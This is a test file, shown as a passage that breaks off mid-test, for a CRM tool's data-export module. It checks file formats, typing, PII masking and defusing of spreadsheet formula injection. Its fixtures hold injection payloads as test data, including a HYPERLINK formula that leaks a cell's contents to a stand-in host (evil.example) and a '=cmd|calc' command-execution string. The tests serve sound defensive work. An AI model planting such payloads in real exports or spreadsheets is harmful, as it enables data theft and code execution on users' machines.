import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { tableFromIPC } from 'apache-arrow';
import { Store } from '../../src/store/db.js';
import { CrmError, ExitCode } from '../../src/util/errors.js';
import {
  SEGMENT_EXPORT_COLUMNS,
  exportQuery,
  exportSegment,
  formatFromPath,
  listSegments,
  parseColumns,
  parseFormat,
  type ExportFormat,
} from '../../src/reports/export.js';
import { TEMP_SUFFIX } from '../../src/reports/atomic-file.js';
import { enableQuotePrefix, safeSheetName } from '../../src/reports/writers/xlsx.js';
import { quotePrefixedCells, xlsxText } from '../helpers/xlsx.js';
import { parseCsv } from '../helpers/csv.js';

// ---------------------------------------------------------------------------------------------
// Fixture: a migrated store with customers (two loads) and a small model table whose latest run
// is exposed by the customer_latest view (in place of the schema's view over customer_metrics,
// which has many more columns than exports read), plus the two `runs` rows.
// ---------------------------------------------------------------------------------------------

const ALL_FORMATS: ExportFormat[] = ['csv', 'xlsx', 'parquet', 'arrow', 'json'];
const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';

let tmpRoot: string;
let storePath: string;
let store: Store;
let outCounter = 0;

/** A fresh output directory per test, so that "no temp files left" can be checked exactly. */
function freshDir(): string {
  const dir = path.join(tmpRoot, `out-${++outCounter}`);
  fs.mkdirSync(dir, { recursive: true });
  return dir;
}

async function buildFixture(s: Store): Promise<void> {
  await s.run(`
    INSERT INTO customers (customer_id, name, email, phone, region, industry, account_owner, signup_date, attributes, load_id, source_file, source_row) VALUES
      ('00042',  '张伟',          'zhang.wei@example.cn',     '+86 138 1234 5678', '华东', '零售',          '李娜',       DATE '2021-03-04', '{"tier":"gold"}', 1, 'customers.xlsx', 2),
      ('C-1001', 'Anna Schmidt',  'old.address@example.com',  '+49 30 0000 0000',  'EU',   'Manufacturing', 'Tom Becker', DATE '2020-01-15', NULL,              1, 'customers.xlsx', 3),
      ('C-1001', 'Anna Schmidt',  'anna.schmidt@example.com', '+49 30 1234 5678',  'EU',   'Manufacturing', 'Tom Becker', DATE '2020-01-15', NULL,              2, 'customers-2.csv', 2),
      ('C-1002', 'Bob Lee',       'bob@example.com',          '(555) 123-4567',    'US',   'Software',      'Tom Becker', DATE '2019-06-30', NULL,              1, 'customers.xlsx', 4),
      ('C-1003', '${HYPERLINK.replace(/'/g, "''")}', 'x@evil.example', NULL,       'US',   '-2+3',          '@SUM(A1:A9)', NULL,             NULL,              1, 'customers.xlsx', 5),
      ('C-1005', 'Nobody Known',  NULL,                       '12345',             NULL,   NULL,            NULL,          NULL,             NULL,              1, 'customers.xlsx', 6)
  `);
  // As a customers load keeps it: the file's owner in file_account_owner, which customer_owners reads.
  await s.run('UPDATE customers SET file_account_owner = account_owner');
  await s.run(`
    CREATE TABLE model_customer (
      run_id INTEGER, customer_id VARCHAR, rfm_segment VARCHAR, value_tier VARCHAR,
      r_score INTEGER, f_score INTEGER, m_score INTEGER, recency_days INTEGER, frequency INTEGER,
      monetary DOUBLE, p_alive DOUBLE, churn_risk DOUBLE, churn_tier VARCHAR, clv DOUBLE,
      net_revenue DOUBLE, abc_class VARCHAR, is_key_account BOOLEAN, last_purchase DATE,
      p_no_purchase DOUBLE, churn_reason VARCHAR
    )`);
  await s.run(`
    INSERT INTO model_customer VALUES
      -- run 1: stale, must never be exported
      (1, '00042',  'Hibernating', 'Low',    1, 1, 1, 900, 1,  10,      0.1,  0.9,  'High',   1,      10,     'C', false, DATE '2022-01-01', 0.95, 'no purchase in 900 days; usually buys every 30 days'),
      -- run 2: the latest
      (2, '00042',  'At Risk',     'High',   2, 4, 5, 120, 12, 812.25,  0.55, 0.45, 'Medium', 1500.5, 8000,   'A', true,  DATE '2024-08-01', 0.7, 'no purchase in 120 days; usually buys every 40 days'),
      (2, 'C-1001', 'At Risk',     'High',   1, 4, 5, 200, 14, 857.14,  0.35, 0.65, 'High',   2200,   12000,  'A', true,  DATE '2024-05-01', 0.8, 'no purchase in 200 days; usually buys every 20 days'),
      (2, 'C-1002', 'Champions',   'Top',    5, 5, 5, 3,   40, 750,     0.98, 0.02, 'Low',    5000,   30000,  'A', true,  DATE '2024-11-20', 0.05, 'last purchase 3 days ago; usually buys every 9 days'),
      (2, 'C-1003', 'At Risk',     'Low',    2, 1, 1, 150, 2,  -6.25,   0.4,  0.6,  'High',   1500.5, -12.5,  'C', false, DATE '2024-06-01', 0.75, '=cmd|calc'),
      (2, 'C-1004', 'Champions',   'Medium', 5, 4, 3, 10,  9,  120,     0.9,  0.1,  'Low',    10,     1080,   'B', false, DATE '2024-11-10', 0.2, 'last purchase 10 days ago; usually buys every 30 days'),
      (2, 'C-1005', 'At Risk',     NULL,     1, 1, 1, 400, 1,  5,       NULL, NULL, NULL,     NULL,   5,      'C', false, NULL, NULL, NULL)
  `);
  await s.run(`
    INSERT INTO runs (run_id, created_at, as_of, time_unit, horizon_months, params, input, customers, model_status, summary, timings, tool_version)
    SELECT i, TIMESTAMP '2024-12-01 00:00:00', DATE '2024-12-01', 'week', 12, '{}', '{}', 6, 'fitted', '{}', '{}', 'test'
    FROM range(1, 3) t(i)`);
  await s.run('DROP VIEW customer_latest');
  await s.run(`
    CREATE VIEW customer_latest AS
    SELECT * EXCLUDE (run_id) FROM model_customer
    WHERE run_id = (SELECT max(run_id) FROM model_customer)`);
}

beforeAll(async () => {
  tmpRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'crm-export-test-'));
  storePath = path.join(tmpRoot, 'crm.duckdb');
  store = await Store.open(storePath, { create: true });
  await buildFixture(store);
});

afterAll(() => {
  store?.close();
  fs.rmSync(tmpRoot, { recursive: true, force: true });
});

// The "At Risk" export as it must come out: clv desc, ties by customer_id, NULL clv last;
// contact data from the latest customer load; C-1005's clv is NULL.
type Cell = string | number | boolean | null;
const AT_RISK: Record<string, Cell>[] = [
  {
    customer_id: 'C-1001', name: 'Anna Schmidt', email: 'anna.schmidt@example.com', phone: '+49 30 1234 5678',
    region: 'EU', industry: 'Manufacturing', account_owner: 'Tom Becker', rfm_segment: 'At Risk', value_tier: 'High',
    r_score: 1, f_score: 4, m_score: 5, recency_days: 200, frequency: 14, monetary: 857.14, last_purchase: '2024-05-01',
    p_alive: 0.35, churn_risk: 0.65, p_no_purchase: 0.8, churn_tier: 'High', churn_reason: 'no purchase in 200 days; usually buys every 20 days', clv: 2200, net_revenue: 12000, abc_class: 'A', is_key_account: true,
  },
  {
    customer_id: '00042', name: '张伟', email: 'zhang.wei@example.cn', phone: '+86 138 1234 5678',
    region: '华东', industry: '零售', account_owner: '李娜', rfm_segment: 'At Risk', value_tier: 'High',
    r_score: 2, f_score: 4, m_score: 5, recency_days: 120, frequency: 12, monetary: 812.25, last_purchase: '2024-08-01',
    p_alive: 0.55, churn_risk: 0.45, p_no_purchase: 0.7, churn_tier: 'Medium', churn_reason: 'no purchase in 120 days; usually buys every 40 days', clv: 1500.5, net_revenue: 8000, abc_class: 'A', is_key_account: true,
  },
  {
    customer_id: 'C-1003', name: HYPERLINK, email: 'x@evil.example', phone: null,
    region: 'US', industry: '-2+3', account_owner: '@SUM(A1:A9)', rfm_segment: 'At Risk', value_tier: 'Low',
    r_score: 2, f_score: 1, m_score: 1, recency_days: 150, frequency: 2, monetary: -6.25, last_purchase: '2024-06-01',
    p_alive: 0.4, churn_risk: 0.6, p_no_purchase: 0.75, churn_tier: 'High', churn_reason: '=cmd|calc', clv: 1500.5, net_revenue: -12.5, abc_class: 'C', is_key_account: false,
  },
  {
    customer_id: 'C-1005', name: 'Nobody Known', email: null, phone: '12345',
    region: null, industry: null, account_owner: null, rfm_segment: 'At Risk', value_tier: null,
    r_score: 1, f_score: 1, m_score: 1, recency_days: 400, frequency: 1, monetary: 5, last_purchase: null,
    p_alive: null, churn_risk: null, p_no_purchase: null, churn_tier: null, churn_reason: null, clv: null, net_revenue: 5, abc_class: 'C', is_key_account: false,
  },
];

/** The model's DOUBLE columns: DuckDB's CSV writer prints integral doubles as `2200.0`. */
const DOUBLE_COLUMNS = new Set(['monetary', 'p_alive', 'churn_risk', 'p_no_purchase', 'clv', 'net_revenue']);

function csvCell(column: string, v: Cell): string {
  if (v === null) return '';
  if (typeof v === 'number' && DOUBLE_COLUMNS.has(column) && Number.isInteger(v)) return v.toFixed(1);
  return String(defused(v));
}

/** Text a spreadsheet would evaluate if it were typed in. */
function formulaLike(v: Cell): boolean {
  return typeof v === 'string' && /^[=+\-@\t\r]/.test(v);
}

/** What a CSV field must hold for an expected text value (formula-like text defused). */
function defused(v: Cell): Cell {
  return formulaLike(v) ? `'${v}` : v;
}

/** A1 reference of a 1-based row and column (columns up to ZZ). */
function a1(row: number, col: number): string {
  const letters = col <= 26 ? String.fromCharCode(64 + col) : String.fromCharCode(64 + Math.floor((col - 1) / 26)) + String.fromCharCode(65 + ((col - 1) % 26));
  return `${letters}${row}`;
}

/** The cells that must carry the quotePrefix style: formula-like text in `rows` (row 1 = header). */
function expectedQuoted(rows: Cell[][]): string[] {
  const refs: string[] = [];
  rows.forEach((row, r) => row.forEach((v, c) => formulaLike(v) && refs.push(a1(r + 1, c + 1))));
  return refs;
}

// ---------------------------------------------------------------------------------------------
// Readers used to check the files
// ---------------------------------------------------------------------------------------------


function readCsv(file: string): { header: string[]; rows: string[][] } {
  const [header, ...rows] = parseCsv(fs.readFileSync(file, 'utf8'));
  return { header, rows };
}

async function readXlsx(file: string): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  expect(wb.worksheets).toHaveLength(1);
  return wb.worksheets[0];
}

function xlsxRows(ws: ExcelJS.Worksheet, columns: number): unknown[][] {
  const out: unknown[][] = [];
  for (let r = 1; r <= ws.rowCount; r++) {
    const row = ws.getRow(r);
    out.push(Array.from({ length: columns }, (_, c) => row.getCell(c + 1).value ?? null));
  }
  return out;
}

async function readWithDuckDB(fn: 'read_parquet' | 'read_json', file: string) {
  const rows = await store.all(`SELECT * FROM ${fn}('${file.replace(/'/g, "''")}')`);
  const types = await store.all<{ column_name: string; column_type: string }>(
    `DESCRIBE SELECT * FROM ${fn}('${file.replace(/'/g, "''")}')`,
  );
  return { rows, types: Object.fromEntries(types.map((t) => [t.column_name, t.column_type])) };
}

function listDir(dir: string): string[] {
  return fs.readdirSync(dir).sort();
}

async function expectCrmError(p: Promise<unknown>, exitCode: number, ...patterns: RegExp[]): Promise<CrmError> {
  const err = await p.then(
    () => {
      throw new Error('expected the export to fail');
    },
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(CrmError);
  const crm = err as CrmError;
  expect(crm.exitCode).toBe(exitCode);
  const text = [crm.message, ...crm.details].join('\n');
  for (const p of patterns) expect(text).toMatch(p);
  return crm;
}

// ---------------------------------------------------------------------------------------------
// Round trips
// ---------------------------------------------------------------------------------------------

describe('segment export round trips', () => {
  it('CSV: RFC 4180, CRLF, exact values, Chinese text, ids as written, formulas defused', async () => {
    const out = path.join(freshDir(), 'at-risk.csv');
    const res = await exportSegment(store, 'At Risk', { format: 'csv', out });
    expect(res).toMatchObject({ rows: 4, path: out, format: 'csv', columns: [...SEGMENT_EXPORT_COLUMNS] });
    expect(res.target).toEqual({ kind: 'segment', segment: 'At Risk' });
    expect(res.bytes).toBe(fs.statSync(out).size);

    const raw = fs.readFileSync(out);
    expect(raw.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    const text = raw.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);

    const { header, rows } = readCsv(out);
    expect(header).toEqual([...SEGMENT_EXPORT_COLUMNS]);
    const expected = AT_RISK.map((r) => SEGMENT_EXPORT_COLUMNS.map((c) => csvCell(c, r[c])));
    expect(rows).toEqual(expected);
    // The HYPERLINK name contains quotes and a comma: quoted, quotes doubled, defused.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")"`);
    // Numbers are never defused: the negative net revenue stays a bare number.
    expect(text).toContain(',-12.5,C,false\r\n');
  });

  it('CSV with --bom starts with the UTF-8 byte-order mark and is otherwise identical', async () => {
    const dir = freshDir();
    await exportSegment(store, 'At Risk', { format: 'csv', out: path.join(dir, 'plain.csv') });
    const res = await exportSegment(store, 'At Risk', { format: 'csv', out: path.join(dir, 'bom.csv'), bom: true });
    const plain = fs.readFileSync(path.join(dir, 'plain.csv'));
    const bom = fs.readFileSync(path.join(dir, 'bom.csv'));
    expect(bom.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bom.subarray(3).equals(plain)).toBe(true);
    expect(res.bytes).toBe(plain.length + 3);
    expect(listDir(dir)).toEqual(['bom.csv', 'plain.csv']); // the scratch file is gone
  });

  it('XLSX: one sheet named after the segment, bold frozen header, typed cells, text unchanged but quote-prefixed', async () => {
    const out = path.join(freshDir(), 'at-risk.xlsx');
    const res = await exportSegment(store, 'at risk', { format: 'xlsx', out });
    expect(res.rows).toBe(4);
    const ws = await readXlsx(out);
    expect(ws.name).toBe('At Risk');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(ws.rowCount).toBe(5);

    const n = SEGMENT_EXPORT_COLUMNS.length;
    const [header, ...rows] = xlsxRows(ws, n);
    expect(header).toEqual([...SEGMENT_EXPORT_COLUMNS]);
    const expected = AT_RISK.map((r) =>
      SEGMENT_EXPORT_COLUMNS.map((c) => {
        const v = r[c];
        if (c === 'last_purchase' && v !== null) return new Date(`${v}T00:00:00Z`);
        return v;
      }),
    );
    // Values are exactly the data (no visible quote); formula-like text carries Excel's
    // quotePrefix style instead: the HYPERLINK name, '-2+3', '@SUM(…)' and the '+' phones.
    expect(rows).toEqual(expected);
    const quoted = quotePrefixedCells(out);
    expect(quoted).toEqual(expectedQuoted([[...SEGMENT_EXPORT_COLUMNS], ...AT_RISK.map((r) => SEGMENT_EXPORT_COLUMNS.map((c) => r[c]))]));
    expect(quoted).toEqual(['D2', 'D3', 'B4', 'F4', 'G4', 'U4']); // U4: C-1003's churn_reason '=cmd|calc'
    // Leading-zero ids are text cells; money is numeric, dates are real dates with a date format.
    const lastPurchaseCol = SEGMENT_EXPORT_COLUMNS.indexOf('last_purchase') + 1;
    expect(ws.getRow(3).getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(ws.getRow(3).getCell(SEGMENT_EXPORT_COLUMNS.indexOf('net_revenue') + 1).type).toBe(ExcelJS.ValueType.Number);
    expect(ws.getRow(2).getCell(lastPurchaseCol).type).toBe(ExcelJS.ValueType.Date);
    expect(ws.getRow(2).getCell(lastPurchaseCol).numFmt).toBe('yyyy-mm-dd');
    // Widths follow the content: the HYPERLINK name is wider than "name", within the cap.
    const nameWidth = ws.getColumn(2).width ?? 0;
    expect(nameWidth).toBeGreaterThan(40);
    expect(nameWidth).toBeLessThanOrEqual(62);
    expect(ws.getColumn(lastPurchaseCol).width).toBe(15); // "last_purchase" (13) + padding
  });

  it('Parquet: native column types and exact values (read back with read_parquet)', async () => {
    const out = path.join(freshDir(), 'at-risk.parquet');
    const res = await exportSegment(store, 'At Risk', { format: 'parquet', out });
    expect(res.rows).toBe(4);
    const { rows, types } = await readWithDuckDB('read_parquet', out);
    expect(rows).toEqual(AT_RISK);
    expect(types).toMatchObject({
      customer_id: 'VARCHAR',
      r_score: 'INTEGER',
      monetary: 'DOUBLE',
      last_purchase: 'DATE',
      is_key_account: 'BOOLEAN',
    });
  });

  it('JSON: one array of objects, raw text (no spreadsheet quoting), exact values', async () => {
    const out = path.join(freshDir(), 'at-risk.json');
    await exportSegment(store, 'At Risk', { format: 'json', out });
    const parsed = JSON.parse(fs.readFileSync(out, 'utf8')) as Record<string, Cell>[];
    expect(parsed).toEqual(AT_RISK);
    const { rows } = await readWithDuckDB('read_json', out);
    expect(rows).toEqual(AT_RISK);
  });

  it('Arrow: IPC file format with typed columns and exact values', async () => {
    const out = path.join(freshDir(), 'at-risk.arrow');
    await exportSegment(store, 'At Risk', { format: 'arrow', out });
    const bytes = fs.readFileSync(out);
    // The file format (not the stream format) starts and ends with the ARROW1 magic.
    expect(bytes.subarray(0, 6).toString('latin1')).toBe('ARROW1');
    expect(bytes.subarray(bytes.length - 6).toString('latin1')).toBe('ARROW1');
    const table = tableFromIPC(bytes);
    expect(table.numRows).toBe(4);
    const typeOf = (name: string) => String(table.schema.fields.find((f) => f.name === name)?.type);
    expect(typeOf('customer_id')).toBe('Utf8');
    expect(typeOf('r_score')).toBe('Int32');
    expect(typeOf('monetary')).toBe('Float64');
    expect(typeOf('is_key_account')).toBe('Bool');
    expect(typeOf('last_purchase')).toBe('Date32<DAY>');
    const rows = table.toArray().map((r) => {
      const o = r.toJSON() as Record<string, unknown>;
      const d = o.last_purchase;
      return { ...o, last_purchase: d === null ? null : new Date(d as number).toISOString().slice(0, 10) };
    });
    expect(rows).toEqual(AT_RISK);
  });
});

describe('types beyond the model columns', () => {
  const sql = `SELECT * FROM (VALUES
      (1, 'a', 9007199254740993::BIGINT, 12.3400::DECIMAL(18,4), TIMESTAMP '2024-01-05 10:11:12.345678', TIMESTAMPTZ '2024-01-05 10:00:00+00', [1, 2], TIME '08:30:00', 2::HUGEINT),
      (2, '',  NULL, NULL, NULL, NULL, NULL, NULL, NULL)
    ) t(id, s, big, dec, ts, tstz, list, tm, huge) ORDER BY id`;

  it('CSV keeps BIGINT and DECIMAL exact, writes nested values as JSON, tells NULL from empty text', async () => {
    const out = path.join(freshDir(), 'types.csv');
    await exportQuery(store, sql, { format: 'csv', out });
    expect(fs.readFileSync(out, 'utf8')).toBe(
      'id,s,big,dec,ts,tstz,list,tm,huge\r\n' +
        '1,a,9007199254740993,12.3400,2024-01-05 10:11:12.345678,2024-01-05 10:00:00+00,"[1,2]",08:30:00,2\r\n' +
        '2,"",,,,,,,\r\n',
    );
  });

  it('Arrow maps BIGINT to Int64 and timestamps to microsecond Timestamps', async () => {
    const out = path.join(freshDir(), 'types.arrow');
    await exportQuery(store, sql, { format: 'arrow', out });
    const table = tableFromIPC(fs.readFileSync(out));
    const typeOf = (name: string) => String(table.schema.fields.find((f) => f.name === name)?.type);
    expect(typeOf('big')).toBe('Int64');
    expect(typeOf('ts')).toBe('Timestamp<MICROSECOND>');
    expect(typeOf('tstz')).toBe('Timestamp<MICROSECOND, UTC>');
    expect(typeOf('list')).toBe('Utf8');
    expect(table.getChild('big')?.get(0)).toBe(9007199254740993n);
    expect(table.getChild('big')?.get(1)).toBeNull();
    expect(table.getChild('s')?.get(1)).toBe('');
    expect(table.getChild('list')?.get(0)).toBe('[1,2]');
    // Microsecond precision survives in the stored values (arrow-js get() rounds to milliseconds).
    expect(table.getChild('ts')?.data[0].values[0]).toBe(BigInt(Date.UTC(2024, 0, 5, 10, 11, 12, 345)) * 1000n + 678n);
    expect(table.getChild('tstz')?.get(0)).toBe(Date.UTC(2024, 0, 5, 10, 0, 0));
  });

  it('XLSX writes timestamps as dates with time, DECIMAL and BIGINT as numbers', async () => {
    const out = path.join(freshDir(), 'types.xlsx');
    await exportQuery(store, sql, { format: 'xlsx', out });
    const ws = await readXlsx(out);
    expect(ws.name).toBe('types');
    const row = ws.getRow(2);
    expect(row.getCell(3).value).toBe(9007199254740992); // Excel numbers are doubles
    expect(row.getCell(4).value).toBe(12.34);
    expect(row.getCell(5).value).toBeInstanceOf(Date);
    expect((row.getCell(5).value as Date).toISOString()).toBe('2024-01-05T10:11:12.345Z');
    expect(row.getCell(5).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(row.getCell(7).value).toBe('[1,2]');
  });

  it('XLSX truncates text beyond Excel\'s 32,767-character cell limit and says so', async () => {
    const dir = freshDir();
    const sql = `SELECT 1 AS id, repeat('x', 40000) AS note UNION ALL SELECT 2, 'short' ORDER BY id`;
    const xlsx = await exportQuery(store, sql, { format: 'xlsx', out: path.join(dir, 'long.xlsx') });
    expect(xlsx.warnings).toEqual([
      "1 text cell(s) longer than Excel's limit of 32,767 characters were truncated; use csv or parquet for the full text",
    ]);
    const rows = xlsxRows(await readXlsx(path.join(dir, 'long.xlsx')), 2);
    expect(rows[1]).toEqual([1, 'x'.repeat(32767)]);
    expect(rows[2]).toEqual([2, 'short']);
    const csv = await exportQuery(store, sql, { format: 'csv', out: path.join(dir, 'long.csv') });
    expect(csv.warnings).toEqual([]);
    expect(readCsv(path.join(dir, 'long.csv')).rows[0][1]).toHaveLength(40000);
  });

  it('an empty result is still a complete file with a header / schema', async () => {
    const dir = freshDir();
    const empty = `SELECT customer_id, clv FROM customer_latest WHERE false`;
    for (const format of ALL_FORMATS) {
      const res = await exportQuery(store, empty, { format, out: path.join(dir, `empty.${format}`) });
      expect(res.rows).toBe(0);
    }
    expect(fs.readFileSync(path.join(dir, 'empty.csv'), 'utf8')).toBe('customer_id,clv\r\n');
    expect(JSON.parse(fs.readFileSync(path.join(dir, 'empty.json'), 'utf8'))).toEqual([]);
    const arrow = tableFromIPC(fs.readFileSync(path.join(dir, 'empty.arrow')));
    expect(arrow.numRows).toBe(0);
    expect(arrow.schema.fields.map((f) => `${f.name}:${f.type}`)).toEqual(['customer_id:Utf8', 'clv:Float64']);
    const ws = await readXlsx(path.join(dir, 'empty.xlsx'));
    expect(xlsxRows(ws, 2)).toEqual([['customer_id', 'clv']]);
    const parquet = await readWithDuckDB('read_parquet', path.join(dir, 'empty.parquet'));
    expect(parquet.rows).toEqual([]);
    expect(parquet.types).toEqual({ customer_id: 'VARCHAR', clv: 'DOUBLE' });
  });

  it('keeps the query order across many DuckDB chunks and Arrow record batches', async () => {
    const dir = freshDir();
    const big = `SELECT i AS n, lpad(CAST(i AS VARCHAR), 6, '0') AS code FROM range(70000) t(i) ORDER BY i DESC`;
    const csv = await exportQuery(store, big, { format: 'csv', out: path.join(dir, 'big.csv') });
    expect(csv.rows).toBe(70000);
    const { rows } = readCsv(path.join(dir, 'big.csv'));
    expect(rows).toHaveLength(70000);
    expect(rows[0]).toEqual(['69999', '069999']);
    expect(rows[69999]).toEqual(['0', '000000']);
    expect(rows.every((r, i) => Number(r[0]) === 69999 - i)).toBe(true);

    await exportQuery(store, big, { format: 'arrow', out: path.join(dir, 'big.arrow') });
    const table = tableFromIPC(fs.readFileSync(path.join(dir, 'big.arrow')));
    expect(table.batches.length).toBeGreaterThan(1);
    const n = table.getChild('n')!.toArray() as BigInt64Array;
    expect(n.length).toBe(70000);
    expect(Array.from(n, Number).every((v, i) => v === 69999 - i)).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------
// Formula injection
// ---------------------------------------------------------------------------------------------

describe('formula injection', () => {
  const sql = `SELECT * FROM (VALUES
      (1, '=HYPERLINK("http://evil.example","x")', -12.5),
      (2, '+1', 3.0),
      (3, '-2+3', -2.0),
      (4, '@SUM(A1:A2)', 0.0),
      (5, chr(9) || '=1+1', 1.0),
      (6, chr(13) || '=1+1', 1.0),
      (7, 'plain = text', NULL),
      (8, ' =leading space', NULL)
    ) t(id, text, amount) ORDER BY id`;
  const texts = ['=HYPERLINK("http://evil.example","x")', '+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', 'plain = text', ' =leading space'];
  const defusedTexts = texts.map((t, i) => (i < 6 ? `'${t}` : t));

  it('CSV prefixes formula-like text with a quote and leaves numbers alone', async () => {
    const out = path.join(freshDir(), 'inject.csv');
    await exportQuery(store, sql, { format: 'csv', out });
    const { rows } = readCsv(out);
    expect(rows.map((r) => r[1])).toEqual(defusedTexts);
    expect(rows.map((r) => r[2])).toEqual(['-12.5', '3.0', '-2.0', '0.0', '1.0', '1.0', '', '']);
  });

  it('XLSX keeps formula-like text as text cells with the quotePrefix style, numbers as numbers, no formulas', async () => {
    const out = path.join(freshDir(), 'inject.xlsx');
    await exportQuery(store, sql, { format: 'xlsx', out });
    const ws = await readXlsx(out);
    const rows = xlsxRows(ws, 3).slice(1);
    // The values are unchanged (XML turns a bare CR into LF when the sheet is read back).
    expect(rows.map((r) => r[1])).toEqual(texts.map((t) => t.replace('\r', '\n')));
    expect(rows.map((r) => r[2])).toEqual([-12.5, 3, -2, 0, 1, 1, null, null]);
    for (let r = 2; r <= ws.rowCount; r++) {
      for (let c = 1; c <= 3; c++) expect(ws.getRow(r).getCell(c).type).not.toBe(ExcelJS.ValueType.Formula);
    }
    // Exactly the six formula-like texts (rows 2–7, column B) are quote-prefixed; numbers never.
    expect(quotePrefixedCells(out)).toEqual(['B2', 'B3', 'B4', 'B5', 'B6', 'B7']);
    const xml = xlsxText(out);
    expect(xml).not.toMatch(/<f>/);
    expect(xml).not.toContain("'=HYPERLINK");
  });

  it('a header that looks like a formula is defused too', async () => {
    const dir = freshDir();
    await exportQuery(store, `SELECT 1 AS "=cmd", 'x' AS ok`, { format: 'csv', out: path.join(dir, 'header.csv') });
    expect(fs.readFileSync(path.join(dir, 'header.csv'), 'utf8')).toBe("'=cmd,ok\r\n1,x\r\n");
    await exportQuery(store, `SELECT 1 AS "=cmd", 'x' AS ok`, { format: 'xlsx', out: path.join(dir, 'header.xlsx') });
    const ws = await readXlsx(path.join(dir, 'header.xlsx'));
    expect(xlsxRows(ws, 2)).toEqual([['=cmd', 'ok'], [1, 'x']]);
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(quotePrefixedCells(path.join(dir, 'header.xlsx'))).toEqual(['A1']);
  });

  it('XLSX quotePrefix support is detected: exceljs internals it cannot find mean the visible-quote fallback', () => {
    // The real exceljs is covered by the round trips above (quotePrefixedCells); a workbook
    // without the style table exceljs 4 has is refused rather than patched blindly.
    expect(enableQuotePrefix({} as never)).toBe(false);
    expect(enableQuotePrefix({ styles: { addStyleModel: () => 0, model: { styles: [] }, index: { style: {} } } } as never)).toBe(false);
  });

  it('Parquet, JSON and Arrow are not spreadsheet formats: text is exported unchanged', async () => {
    const dir = freshDir();
    for (const format of ['parquet', 'json', 'arrow'] as const) {
      await exportQuery(store, sql, { format, out: path.join(dir, `inject.${format}`) });
    }
    expect((await readWithDuckDB('read_parquet', path.join(dir, 'inject.parquet'))).rows.map((r) => r.text)).toEqual(texts);
    expect((JSON.parse(fs.readFileSync(path.join(dir, 'inject.json'), 'utf8')) as { text: string }[]).map((r) => r.text)).toEqual(texts);
    expect(tableFromIPC(fs.readFileSync(path.join(dir, 'inject.arrow'))).getChild('text')?.toArray()).toEqual(texts);
  });
});

// ---------------------------------------------------------------------------------------------
// PII masking
// ---------------------------------------------------------------------------------------------

describe('PII masking', () => {
  const MASKED_EMAIL = ['a***@example.com', 'z***@example.cn', 'x***@evil.example', null];
  const MASKED_PHONE = ['+49 301***5678', '+86 138****5678', null, '*****'];

  it('masks e-mail and phone identically in every format', async () => {
    const dir = freshDir();
    const columns = ['customer_id', 'email', 'phone'];
    const results = [];
    for (const format of ALL_FORMATS) {
      results.push(await exportSegment(store, 'At Risk', { format, columns, maskPii: true, out: path.join(dir, `m.${format}`) }));
    }
    for (const r of results) expect(r.maskedColumns).toEqual(['email', 'phone']);

    const csv = readCsv(path.join(dir, 'm.csv')).rows;
    expect(csv.map((r) => r[1])).toEqual(MASKED_EMAIL.map((v) => v ?? ''));
    // Masked phones keep their leading '+', so the spreadsheet rule still applies to them.
    expect(csv.map((r) => r[2])).toEqual(MASKED_PHONE.map((v) => (v === null ? '' : String(defused(v)))));

    const xlsx = xlsxRows(await readXlsx(path.join(dir, 'm.xlsx')), 3).slice(1);
    expect(xlsx.map((r) => r[1])).toEqual(MASKED_EMAIL);
    expect(xlsx.map((r) => r[2])).toEqual(MASKED_PHONE);
    expect(quotePrefixedCells(path.join(dir, 'm.xlsx'))).toEqual(['C2', 'C3']);

    const parquet = (await readWithDuckDB('read_parquet', path.join(dir, 'm.parquet'))).rows;
    expect(parquet.map((r) => r.email)).toEqual(MASKED_EMAIL);
    expect(parquet.map((r) => r.phone)).toEqual(MASKED_PHONE);

    const json = JSON.parse(fs.readFileSync(path.join(dir, 'm.json'), 'utf8')) as Record<string, Cell>[];
    expect(json.map((r) => [r.email, r.phone])).toEqual(MASKED_EMAIL.map((e, i) => [e, MASKED_PHONE[i]]));

    const arrow = tableFromIPC(fs.readFileSync(path.join(dir, 'm.arrow')));
    expect(arrow.getChild('email')?.toArray()).toEqual(MASKED_EMAIL);
    expect(arrow.getChild('phone')?.toArray()).toEqual(MASKED_PHONE);

    // No clear-text address survives anywhere in the files (XLSX: in any of its zipped parts).
    for (const format of ALL_FORMATS) {
      const file = path.join(dir, `m.${format}`);
      const text = format === 'xlsx' ? xlsxText(file) : fs.readFileSync(file).toString('latin1');
      expect(text).toContain('5678');
      expect(text).not.toContain('anna.schmidt');
      expect(text).not.toContain('1234 5678');
    }
  });

  it('applies the documented rules to edge cases', async () => {
    const out = path.join(freshDir(), 'edge.json');
    await exportQuery(
      store,
      `SELECT * FROM (VALUES
         (1, 'anna.schmidt@example.com', '+86 138 1234 5678'),
         (2, '王小明@例子.中国', '+86 13812345678'),
         (3, 'not-an-email', '+8613812345678'),
         (4, 'a@b@c.com', '(555) 123-4567'),
         (5, '', '+1 (555) 123-4567'),
         (6, ' Bob@X.org ', '12345'),
         (7, NULL, NULL)
       ) t(id, email, phone) ORDER BY id`,
      { format: 'json', out, maskPii: true },
    );
    const rows = JSON.parse(fs.readFileSync(out, 'utf8')) as { email: string | null; phone: string | null }[];
    expect(rows.map((r) => r.email)).toEqual(['a***@example.com', '王***@例子.中国', '***', '***', '', 'B***@X.org', null]);
    expect(rows.map((r) => r.phone)).toEqual([
      '+86 138****5678',
      '+86 138****5678',
      '+861******5678',
      '555***4567',
